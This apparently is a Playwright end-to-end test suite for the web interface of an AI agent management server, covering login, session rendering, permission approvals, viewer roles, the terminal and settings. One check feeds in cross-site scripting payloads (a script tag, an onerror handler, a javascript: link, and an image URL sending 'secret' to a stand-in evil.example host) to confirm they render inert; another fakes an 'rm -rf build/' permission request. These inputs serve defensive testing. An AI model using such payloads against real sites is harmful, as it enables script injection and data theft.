@@ -1,0 +1,562 @@
+#!/usr/bin/env node
+// Real-browser checks of the UI against a running agenthold (the dev stack: `make up`), with
+// playwright-core driving the system's Chromium (no browser download).
+//
+//   set -a; . .dev/env; set +a; node web/e2e/run.mjs [name-filter]
+//
+// Needs AGENTHOLD_URL and AGENTHOLD_TOKEN (a server admin's token: it makes the test users).
+// CHROMIUM (default /usr/bin/chromium). Screenshots (light and dark) go to AGENTHOLD_UI_SHOTS
+// (default .dev/ui-screenshots). Each check prints PASS/FAIL with its time; the exit status is the
+// number of failures.
+import { chromium } from 'playwright-core';
+import { mkdirSync, readFileSync } from 'node:fs';
+import { dirname, resolve } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { randomBytes } from 'node:crypto';
+import { spawn } from 'node:child_process';
+
+const here = dirname(fileURLToPath(import.meta.url));
+const URL_ = (process.env.AGENTHOLD_URL ?? 'http://127.0.0.1:7700').replace(/\/$/, '');
+const TOKEN = process.env.AGENTHOLD_TOKEN;
+const SHOTS = resolve(process.env.AGENTHOLD_UI_SHOTS ?? resolve(here, '../../.dev/ui-screenshots'));
+const FILTER = process.argv[2] ?? '';
+if (!TOKEN) {
+  console.error('AGENTHOLD_TOKEN is not set (set -a; . .dev/env; set +a)');
+  process.exit(2);
+}
+mkdirSync(SHOTS, { recursive: true });
+
+const run = randomBytes(3).toString('hex');
+const PASSWORD = `ui-check-password-${run}`;
+
+async function rest(method, path, body, token = TOKEN) {
+  const r = await fetch(`${URL_}${path}`, {
+    method,
+    headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
+    body: body ? JSON.stringify(body) : undefined,
+  });
+  const text = await r.text();
+  const data = text ? JSON.parse(text) : null;
+  if (!r.ok) throw new Error(`${method} ${path}: ${r.status} ${text}`);
+  return data;
+}
+
+async function makeUser(name) {
+  const username = `${name}-${run}`;
+  const user = await rest('POST', '/api/v1/users', { username, password: PASSWORD });
+  return { username, id: user.id, workspace: user.personal_workspace_id };
+}
+
+const browser = await chromium.launch({
+  executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
+  headless: true,
+  args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-quic'],
+});
+
+/** A fresh browser context, signed in through the page; CSP violations and page errors fail the check. */
+async function signedIn(user, { viewport = { width: 1280, height: 860 } } = {}) {
+  const context = await browser.newContext({ baseURL: URL_, viewport });
+  const page = await context.newPage();
+  page.problems = [];
+  page.on('console', (m) => {
+    if (m.type() === 'error' && /Content Security Policy|Refused to/i.test(m.text())) page.problems.push(m.text());
+  });
+  page.on('pageerror', (e) => page.problems.push(`page error: ${e.message}`));
+  await page.goto('/');
+  await page.waitForURL(/\/login/);
+  await page.getByLabel('Username').fill(user.username);
+  await page.getByLabel('Password').fill(PASSWORD);
+  await page.getByRole('button', { name: 'Sign in' }).click();
+  await page.getByRole('heading', { name: 'Agents' }).waitFor();
+  return { context, page };
+}
+
+/** The API from inside the page, as the page calls it (cookie + the CSRF token from /me). */
+async function pageApi(page, method, path, body) {
+  return page.evaluate(
+    async ({ method, path, body }) => {
+      const me = await (await fetch('/api/v1/me')).json();
+      const r = await fetch(path, {
+        method,
+        headers: { 'content-type': 'application/json', 'x-csrf-token': me.csrf_token ?? '' },
+        body: body === undefined ? undefined : JSON.stringify(body),
+      });
+      const text = await r.text();
+      if (!r.ok) throw new Error(`${method} ${path}: ${r.status} ${text}`);
+      return text ? JSON.parse(text) : null;
+    },
+    { method, path, body },
+  );
+}
+
+async function events(page, sessionId) {
+  const out = [];
+  let after = 0;
+  for (;;) {
+    const r = await pageApi(page, 'GET', `/api/v1/sessions/${sessionId}/events?after=${after}&limit=1000`);
+    out.push(...r.events);
+    if (!r.events.length) return out;
+    after = r.next_after;
+  }
+}
+
+/** Controls without an accessible name on the page (every page is checked when it is photographed). */
+async function unlabelled(page) {
+  return page.evaluate(() =>
+    [...document.querySelectorAll('button, input, select, textarea, a[href], summary')]
+      .filter((el) => {
+        if (el.closest('.xterm')) return false;
+        const name =
+          el.getAttribute('aria-label') ||
+          (el.getAttribute('aria-labelledby') && document.getElementById(el.getAttribute('aria-labelledby'))?.textContent) ||
+          el.closest('label')?.textContent ||
+          (el.id && document.querySelector(`label[for="${el.id}"]`)?.textContent) ||
+          (['INPUT', 'SELECT', 'TEXTAREA'].includes(el.tagName) ? '' : el.textContent);
+        return !name || !name.trim();
+      })
+      .map((el) => el.outerHTML.slice(0, 120)),
+  );
+}
+
+async function shot(page, name) {
+  const missing = await unlabelled(page);
+  if (missing.length) throw new Error(`${name}: controls without a name:\n${missing.join('\n')}`);
+  for (const scheme of ['light', 'dark']) {
+    await page.emulateMedia({ colorScheme: scheme });
+    await page.waitForTimeout(100);
+    await page.screenshot({ path: `${SHOTS}/${name}-${scheme}.png`, fullPage: false });
+  }
+  await page.emulateMedia({ colorScheme: 'light' });
+}
+
+async function newAgentWithSession(page, name, extra = {}) {
+  const agent = await pageApi(page, 'POST', '/api/v1/agents', { name, harness: 'fake', ...extra });
+  const session = await pageApi(page, 'POST', `/api/v1/agents/${agent.id}/sessions`, {});
+  return { agent, session };
+}
+
+async function prompt(page, text) {
+  const box = page.getByRole('textbox', { name: /Prompt|Reply/ });
+  await box.fill(text);
+  await box.press('Enter');
+}
+
+function assert(cond, message) {
+  if (!cond) throw new Error(message);
+}
+
+const checks = [];
+const check = (name, fn) => checks.push({ name, fn });
+const state = {};
+
+check('sign in, the agents list, sign out and in again keeps working after a reload', async () => {
+  const { context, page } = await signedIn(state.alice);
+  // After a reload the page has only the cookie: /me gives the CSRF token back, so changes work.
+  await page.reload();
+  await page.getByRole('heading', { name: 'Agents' }).waitFor();
+  const t = await pageApi(page, 'POST', '/api/v1/tokens', { name: 'after-reload' });
+  assert(t.token.startsWith('ah_'), 'a change after a reload works');
+  const stored = await page.evaluate(() => JSON.stringify(localStorage) + document.cookie);
+  assert(!stored.includes('ah_') && !stored.includes('agenthold_session'), `no token in storage or a readable cookie: ${stored}`);
+  await page.locator('.menu summary').click();
+  await page.getByRole('button', { name: 'Sign out' }).click();
+  await page.waitForURL(/\/login/);
+  await shot(page, 'login');
+  assert(page.problems.length === 0, page.problems.join('\n'));
+  await context.close();
+});
+
+check('create an agent from the agents page', async () => {
+  const { context, page } = await signedIn(state.alice);
+  await page.getByText('Create an agent').click();
+  await page.getByLabel('Name').fill('ui-made');
+  await page.getByLabel('Harness').selectOption('fake');
+  await page.getByRole('button', { name: 'Create', exact: true }).click();
+  await page.getByRole('heading', { name: /ui-made/ }).waitFor();
+  await page.getByText('Overview').waitFor();
+  await shot(page, 'agent-overview');
+  await page.goto('/');
+  await page.locator('tr[data-agent="ui-made"]').waitFor();
+  await shot(page, 'agents');
+  assert(page.problems.length === 0, page.problems.join('\n'));
+  await context.close();
+});
+
+check('prompt a fake agent and watch the turn render', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent } = await newAgentWithSession(page, 'turns');
+  await page.goto(`/agents/${agent.id}`);
+  await page.getByRole('button', { name: 'New session' }).click();
+  await page.waitForURL(/\/sessions\//);
+  await page.locator('[data-status="live"]').waitFor();
+  const script = [
+    'think Let me look around first.',
+    'plan Inspect | Edit | Test',
+    'tool read Reading Cargo.toml',
+    'write src/answer.txt 42\\n',
+    'write src/answer.txt 41\\n42\\n43\\n',
+    "run printf '\\033[31mred\\033[0m plain'",
+    'text **All done.** See [the docs](https://example.com/docs).',
+    'usage 100 20',
+  ].join('\n');
+  await prompt(page, script);
+  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
+  const endText = await page.locator('.item-turn_end').innerText();
+  assert(/100 in \/ 20 out/.test(endText), `turn_end shows tokens: ${endText}`);
+  assert(/\d+\.\d s/.test(endText), `turn_end shows the duration: ${endText}`);
+  assert((await page.locator('.item-tool').count()) === 4, 'four tool cards (read, two edits, run), one per call');
+  assert((await page.locator('.diff .line.add').count()) >= 1, 'the edit shows a diff');
+  await page.getByRole('button', { name: 'side by side' }).click();
+  assert((await page.locator('.diff.split .split-row').count()) >= 3, 'the side-by-side view');
+  const red = await page.locator('pre.ansi span', { hasText: 'red' }).first().evaluate((e) => getComputedStyle(e).color);
+  assert(red !== '' && red !== getComputedStyleFallback(), `ANSI red is coloured: ${red}`);
+  assert((await page.locator('.markdown strong', { hasText: 'All done.' }).count()) === 1, 'markdown renders');
+  assert((await page.locator('details.thought').getAttribute('open')) === null, 'the thought is collapsed');
+  assert(/Plan 0\/3/.test(await page.locator('.plan summary').innerText()), 'the plan panel');
+  assert(await page.getByRole('textbox', { name: 'Prompt' }).isEnabled(), 'the box is enabled after the turn');
+  await shot(page, 'session');
+  assert(page.problems.length === 0, page.problems.join('\n'));
+  await context.close();
+});
+function getComputedStyleFallback() {
+  return 'rgb(29, 29, 31)';
+}
+
+check('the prompt box waits while a turn runs; Cancel ends it', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(page, 'cancel');
+  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await page.locator('[data-status="live"]').waitFor();
+  await prompt(page, 'text working\nsleep 20000\ntext never');
+  await page.locator('[data-running="yes"]').waitFor();
+  const box = page.getByRole('textbox', { name: 'Prompt' });
+  assert(await box.isDisabled(), 'the box is disabled while the turn runs');
+  assert(/A turn is running/.test(await page.locator('#composer-hint').innerText()), 'and says why');
+  await page.getByRole('button', { name: 'Cancel' }).click();
+  await page.locator('.turn-end.cancelled').waitFor({ timeout: 30000 });
+  assert(await box.isEnabled(), 'enabled again');
+  await context.close();
+});
+
+check('reload mid-turn during a fast flood: every event rendered once, no gap, no duplicate', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(page, 'flood');
+  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await page.locator('[data-status="live"]').waitFor();
+  const N = 3000;
+  await prompt(page, `text start\nflood ${N} 600\ntext end`);
+  // Far enough in that the reloaded page opens at the tail of the log (it reads 400 events).
+  await page.waitForFunction(() => Number(document.querySelector('.log')?.dataset.applied ?? 0) > 900, null, { timeout: 60000 });
+  const before = Number(await page.locator('.log').getAttribute('data-applied'));
+  const reads = [];
+  page.on('request', (r) => {
+    const m = /\/events\?after=(\d+)/.exec(r.url());
+    if (m) reads.push(Number(m[1]));
+  });
+  await page.reload();
+  await page.locator('.log').waitFor();
+  // And once more, with a dropped connection: the page goes offline and back.
+  await page.waitForTimeout(700);
+  await context.setOffline(true);
+  await page.waitForTimeout(500);
+  await context.setOffline(false);
+  await page.locator('.item-turn_end').waitFor({ timeout: 90000 });
+  const log = await events(page, session.id);
+  const last = log[log.length - 1].seq;
+  await page.waitForFunction((n) => Number(document.querySelector('.log')?.dataset.cursor) >= n, last);
+  // The page opened at the tail: scrolling up reads the rest.
+  assert(reads.length && reads[0] > 0, `the reloaded page opened at the tail of the log (read after ${reads[0]})`);
+  for (let i = 0; i < 20 && (await page.locator('button.older').count()); i++) {
+    await page.locator('.log').evaluate((el) => (el.scrollTop = 0));
+    await page.waitForTimeout(200);
+  }
+  assert((await page.locator('button.older').count()) === 0, 'scrolling up read the whole log');
+  const cursor = Number(await page.locator('.log').getAttribute('data-cursor'));
+  const applied = Number(await page.locator('.log').getAttribute('data-applied'));
+  assert(cursor === last && applied === last, `applied ${applied} events up to ${cursor}; the log has ${last}`);
+  const text = await page.locator('.item-message').allInnerTexts();
+  const nums = [...text.join('\n').matchAll(/flood (\d+)/g)].map((m) => Number(m[1]));
+  const chunks = log.filter((e) => e.type === 'update' && /^flood \d+$/.test(e.payload?.content?.text ?? '')).length;
+  assert(chunks === N, `the log has ${chunks} flood chunks`);
+  assert(nums.length === N, `rendered ${nums.length} flood chunks, the log has ${N}`);
+  assert(nums.every((n, i) => n === i + 1), 'in order, none twice, none missing');
+  const prompts = log.filter((e) => e.type === 'prompt').length;
+  const ends = log.filter((e) => e.type === 'turn_end').length;
+  assert((await page.locator('.item-prompt').count()) === prompts, 'one prompt item per prompt event');
+  assert((await page.locator('.item-turn_end').count()) === ends, 'one turn_end item per turn_end event');
+  state.flood = { before, last };
+  await context.close();
+});
+
+// Restarts the dev stack's server (scripts/dev/server.sh start), so only when asked to.
+if (process.env.AGENTHOLD_UI_RESTART === '1')
+  check('kill and restart the server mid-turn with the page open: it continues without a gap or a duplicate', async () => {
+    const { context, page } = await signedIn(state.alice);
+    const { agent, session } = await newAgentWithSession(page, 'restart');
+    await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+    await page.locator('[data-status="live"]').waitFor();
+    await prompt(page, 'flood 1500 150\ntext after the flood');
+    await page.waitForFunction(() => Number(document.querySelector('.log')?.dataset.applied ?? 0) > 150, null, { timeout: 60000 });
+    // SIGKILL: no graceful shutdown, the socket just drops.
+    const pid = Number(readFileSync(resolve(here, '../../.dev/server.pid'), 'utf8').trim());
+    process.kill(pid, 'SIGKILL');
+    const restarted = new Promise((ok, fail) => {
+      const p = spawn('bash', [resolve(here, '../../scripts/dev/server.sh'), 'start'], { stdio: ['ignore', 'ignore', 'inherit'] });
+      p.on('exit', (code) => (code === 0 ? ok() : fail(new Error(`server.sh start: ${code}`))));
+    });
+    await page.locator('[data-status="reconnecting"]').waitFor({ timeout: 30000 });
+    await restarted;
+    await page.locator('[data-status="live"]').waitFor({ timeout: 60000 });
+    // The turn ends one way or another (the server may resume it or report it lost).
+    await page.waitForFunction(() => document.querySelector('[data-running]')?.getAttribute('data-running') === 'no', null, { timeout: 120000 });
+    await page.waitForTimeout(1000);
+    const log = await events(page, session.id);
+    const last = log[log.length - 1].seq;
+    await page.waitForFunction((n) => Number(document.querySelector('.log')?.dataset.cursor) >= n, last, { timeout: 30000 });
+    const applied = Number(await page.locator('.log').getAttribute('data-applied'));
+    assert(applied === last, `applied ${applied} events; the log has ${last}`);
+    const text = (await page.locator('.item-message').allInnerTexts()).join('\n');
+    const nums = [...text.matchAll(/flood (\d+)/g)].map((m) => Number(m[1]));
+    const inLog = log.filter((e) => e.type === 'update' && /^flood \d+$/.test(e.payload?.content?.text ?? '')).length;
+    assert(nums.length === inLog, `rendered ${nums.length} flood chunks, the log has ${inLog}`);
+    assert(nums.every((n, i) => i === 0 || n > nums[i - 1]), 'in order, none twice');
+    await context.close();
+  });
+
+check('the log sticks to the bottom only while the reader is there', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(page, 'scroller');
+  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await page.locator('[data-status="live"]').waitFor();
+  const script = Array.from({ length: 120 }, (_, i) => `tool read Reading file ${i}\nsleep 40`).join('\n');
+  await prompt(page, script);
+  await page.waitForFunction(() => Number(document.querySelector('.log')?.dataset.items ?? 0) > 40, null, { timeout: 60000 });
+  const distance = () => page.locator('.log').evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
+  assert((await distance()) < 60, 'at the bottom while items come in');
+  // The reader scrolls up: the log stays where it is while items keep coming.
+  await page.locator('.log').evaluate((el) => (el.scrollTop = 200));
+  await page.waitForTimeout(300);
+  const top = await page.locator('.log').evaluate((el) => el.scrollTop);
+  await page.waitForTimeout(1200);
+  const later = await page.locator('.log').evaluate((el) => el.scrollTop);
+  assert(Math.abs(later - top) < 4, `the log did not move: ${top} → ${later}`);
+  await page.getByRole('button', { name: /Jump to latest/ }).click();
+  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
+  await page.waitForTimeout(300);
+  assert((await distance()) < 60, 'back at the bottom, it follows to the end');
+  const inDom = await page.locator('.log .item').count();
+  const items = Number(await page.locator('.log').getAttribute('data-items'));
+  assert(inDom < items, `virtualized: ${inDom} of ${items} items in the page`);
+  await context.close();
+});
+
+check('a permission question: inline and from the inbox, the first answer wins across two browsers', async () => {
+  const { context: a, page: pa } = await signedIn(state.alice);
+  const { context: b, page: pb } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(pa, 'asker', { posture: 'approval' });
+  await pa.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await pa.locator('[data-status="live"]').waitFor();
+  await pb.goto('/approvals');
+  await pb.locator('[data-status="live"]').waitFor();
+  await prompt(pa, 'ask execute rm -rf build/\nask edit src/main.rs\ntext finished');
+
+  // 1. Both browsers answer the first question at once: exactly one answer is stored.
+  const inline = pa.locator('.question.pending .answer[data-kind="allow_once"]');
+  const inbox = pb.locator('.inbox .answer[data-kind="reject_once"]');
+  await inline.waitFor({ timeout: 60000 });
+  await inbox.waitFor();
+  await pa.waitForFunction(() => !document.querySelector('.question.pending .answer')?.disabled);
+  await pb.waitForFunction(() => !document.querySelector('.inbox .answer')?.disabled);
+  await shot(pb, 'approvals');
+  await shot(pa, 'session-question');
+  assert(/reply answers it/.test(await pa.locator('#composer-hint').innerText()), 'the box says a reply answers the question');
+  await Promise.all([inline.click().catch(() => undefined), inbox.click().catch(() => undefined)]);
+  await pa.locator('.question.resolved').first().waitFor({ timeout: 30000 });
+  // 2. The second question, answered from the inbox only; the session shows who answered.
+  const second = pb.locator('.inbox .answer[data-kind="allow_once"]');
+  await second.waitFor({ timeout: 60000 });
+  await pb.waitForFunction(() => !document.querySelector('.inbox .answer')?.disabled);
+  await second.click();
+  await pa.locator('.item-turn_end').waitFor({ timeout: 60000 });
+  await pb.locator('.empty-inbox').waitFor();
+  const log = await events(pa, session.id);
+  const asked = log.filter((e) => e.type === 'permission');
+  const resolved = log.filter((e) => e.type === 'permission_resolved');
+  assert(asked.length === 2 && resolved.length === 2, `two questions, two answers: ${asked.length}/${resolved.length}`);
+  assert(new Set(resolved.map((e) => e.payload.permission_id)).size === 2, 'one answer per question');
+  const resolutions = await pa.locator('.question.resolved .resolution').allInnerTexts();
+  assert(resolutions.length === 2 && resolutions.every((t) => /you/.test(t)), `who answered: ${resolutions}`);
+  assert((await pa.locator('.item-message', { hasText: 'permission: allow-once' }).count()) >= 1, 'the harness got the answer');
+  await a.close();
+  await b.close();
+});
+
+check('a reply answers a waiting question', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(page, 'replier', { posture: 'approval' });
+  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await page.locator('[data-status="live"]').waitFor();
+  await prompt(page, 'ask execute make deploy');
+  await page.locator('.question.pending').waitFor({ timeout: 60000 });
+  await page.getByRole('textbox', { name: 'Reply to the question' }).waitFor();
+  await prompt(page, 'yes');
+  await page.locator('.question.resolved').waitFor({ timeout: 30000 });
+  assert(/by a reply/.test(await page.locator('.question.resolved .resolution').innerText()), 'answered by a reply');
+  await page.locator('.item-turn_end').waitFor({ timeout: 30000 });
+  await context.close();
+});
+
+check("the harness's own question (an elicitation) is answered inline", async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(page, 'elicit');
+  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await page.locator('[data-status="live"]').waitFor();
+  await prompt(page, 'elicit What is your name?');
+  await page.locator('.question.pending', { hasText: 'What is your name?' }).waitFor({ timeout: 60000 });
+  await page.getByLabel('Your answer').fill('Ada');
+  await page.getByRole('button', { name: 'Answer', exact: true }).click();
+  await page.locator('.item-message', { hasText: 'elicitation: accept' }).waitFor({ timeout: 30000 });
+  assert(/Ada/.test(await page.locator('.item-message', { hasText: 'elicitation: accept' }).innerText()), 'the harness got the answer');
+  await page.locator('.question.resolved').waitFor();
+  await context.close();
+});
+
+check('a viewer sees the session but no prompt box and no terminal', async () => {
+  state.victor = await makeUser('victor');
+  const { context, page } = await signedIn(state.alice);
+  const ws = await pageApi(page, 'POST', '/api/v1/workspaces', { name: `team-${run}` });
+  await pageApi(page, 'PUT', `/api/v1/workspaces/${ws.id}/members/${state.victor.id}`, { role: 'viewer' });
+  const { agent, session } = await newAgentWithSession(page, 'shared', { workspace_id: ws.id });
+  await pageApi(page, 'POST', `/api/v1/sessions/${session.id}/prompt`, { text: 'text hello viewers' });
+  const { context: vc, page: vp } = await signedIn(state.victor);
+  await vp.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await vp.locator('.item-message', { hasText: 'hello viewers' }).waitFor({ timeout: 60000 });
+  assert((await vp.locator('textarea').count()) === 0, 'no prompt box');
+  await vp.locator('.viewer-note').waitFor();
+  await vp.goto(`/agents/${agent.id}`);
+  await vp.getByText('Overview').waitFor();
+  assert((await vp.getByRole('link', { name: 'Terminal' }).count()) === 0, 'no terminal link');
+  assert((await vp.getByRole('button', { name: 'New session' }).count()) === 0, 'no new session');
+  await vp.goto(`/agents/${agent.id}/terminal`);
+  await vp.getByText('Operators of this agent').waitFor();
+  assert((await vp.locator('.xterm').count()) === 0, 'no terminal opened');
+  await context.close();
+  await vc.close();
+});
+
+check('markdown with a <script>, a javascript: link and a remote image renders inert', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(page, 'markdown');
+  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await page.locator('[data-status="live"]').waitFor();
+  await prompt(
+    page,
+    'text <script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"> [click me](javascript:window.__pwned=3) ![leak](https://evil.example/leak.png?q=secret) [ok](https://example.com)',
+  );
+  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
+  const msg = page.locator('.item-message').last();
+  assert((await msg.locator('script, img, iframe').count()) === 0, 'no script or image element');
+  assert((await msg.locator('a[href^="javascript"]').count()) === 0, 'no javascript: link');
+  assert((await msg.locator('a[href="https://evil.example/leak.png?q=secret"]').count()) === 1, 'the image is a link');
+  assert(/<script>/.test(await msg.innerText()), 'the tag shows as text');
+  await msg.getByText('click me').click();
+  assert((await page.evaluate(() => window.__pwned)) === undefined, 'nothing ran');
+  await context.close();
+});
+
+check('a cut payload loads whole on request', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(page, 'big');
+  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await page.locator('[data-status="live"]').waitFor();
+  await prompt(page, 'big 400000');
+  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
+  await page.getByRole('button', { name: 'Load whole' }).click();
+  const whole = await page.locator('pre.whole').innerText();
+  assert(whole.length > 400000, `the whole payload: ${whole.length} characters`);
+  await context.close();
+});
+
+check('the terminal echoes input and resizes', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent } = await newAgentWithSession(page, 'term');
+  await page.goto(`/agents/${agent.id}/terminal`);
+  await page.locator('[data-status="connected"]').waitFor({ timeout: 90000 });
+  await page.locator('.xterm').click();
+  await page.keyboard.type('echo hello-$((6*7))\n');
+  await page.locator('.xterm-rows', { hasText: 'hello-42' }).waitFor({ timeout: 30000 });
+  await page.setViewportSize({ width: 700, height: 500 });
+  await page.waitForTimeout(500);
+  await page.keyboard.type('stty size\n');
+  await page.waitForFunction(() => /\n\s*\d+ \d+\s*\n/.test(document.querySelector('.xterm-rows')?.innerText ?? ''), null, { timeout: 15000 });
+  const rows = await page.locator('.xterm-rows').innerText();
+  const sizes = [...rows.matchAll(/^\s*(\d+) (\d+)\s*$/gm)].map((m) => Number(m[2]));
+  assert(sizes.length && sizes[sizes.length - 1] < 100, `the terminal took the smaller size: ${sizes}`);
+  await shot(page, 'terminal');
+  assert(page.problems.length === 0, page.problems.join('\n'));
+  await context.close();
+});
+
+check('sign in inside the sandbox from the overview: the login runs in the terminal and the agent is marked', async () => {
+  const { context, page } = await signedIn(state.alice);
+  const { agent, session } = await newAgentWithSession(page, 'sandbox-login');
+  await pageApi(page, 'POST', `/api/v1/sessions/${session.id}/prompt`, { text: 'text hello' });
+  // The login methods come from the running harness's answer to initialize.
+  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
+  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
+  await page.goto(`/agents/${agent.id}`);
+  await page.getByText('Sign in inside this sandbox instead').click();
+  await page.locator('a[href*="terminal?login="]').first().click();
+  await page.waitForURL(/terminal\?login=/);
+  await page.locator('.xterm-rows', { hasText: 'signed in' }).waitFor({ timeout: 60000 });
+  await page.locator('[data-status^="closed"]').waitFor({ timeout: 30000 });
+  await shot(page, 'terminal-login');
+  await page.goto(`/agents/${agent.id}`);
+  await page.locator('.badge', { hasText: 'credentials inside sandbox' }).waitFor();
+  assert(page.problems.length === 0, page.problems.join('\n'));
+  await context.close();
+});
+
+check('settings pages: tokens created once and revoked, providers, members', async () => {
+  const { context, page } = await signedIn(state.alice);
+  await page.goto('/settings/tokens');
+  await page.getByLabel("New token's name").fill('ui-token');
+  await page.getByRole('button', { name: 'Create token' }).click();
+  const value = await page.locator('.secret-once').innerText();
+  assert(value.startsWith('ah_'), 'shown once');
+  await shot(page, 'settings-tokens');
+  page.once('dialog', (d) => d.accept());
+  await page.locator('tr[data-token="ui-token"]').getByRole('button', { name: 'Revoke' }).click();
+  await page.locator('tr[data-token="ui-token"]').waitFor({ state: 'detached' });
+  const r = await fetch(`${URL_}/api/v1/me`, { headers: { authorization: `Bearer ${value}` } });
+  assert(r.status === 401, 'the revoked token stopped working');
+  await page.goto('/settings/providers');
+  await page.getByRole('heading', { name: 'Provider logins' }).waitFor();
+  await shot(page, 'settings-providers');
+  await page.goto('/settings/members');
+  await shot(page, 'settings-members');
+  await page.goto('/settings/audit');
+  await page.locator('td code', { hasText: 'token.revoked' }).first().waitFor();
+  await shot(page, 'settings-audit');
+  await page.goto('/settings/secrets');
+  await shot(page, 'settings-secrets');
+  assert(page.problems.length === 0, page.problems.join('\n'));
+  await context.close();
+});
+
+state.alice = await makeUser('alice');
+let failures = 0;
+for (const { name, fn } of checks) {
+  if (FILTER && !name.includes(FILTER)) continue;
+  const t0 = Date.now();
+  try {
+    await fn();
+    console.log(`PASS ${name} (${Date.now() - t0} ms)`);
+  } catch (e) {
+    failures++;
+    console.log(`FAIL ${name} (${Date.now() - t0} ms)\n     ${String(e?.stack ?? e).split('\n').slice(0, 6).join('\n     ')}`);
+  }
+}
+await browser.close();
+console.log(`${failures ? 'FAILED' : 'PASSED'}: ${failures} failing; screenshots in ${SHOTS}`);
+process.exit(failures);
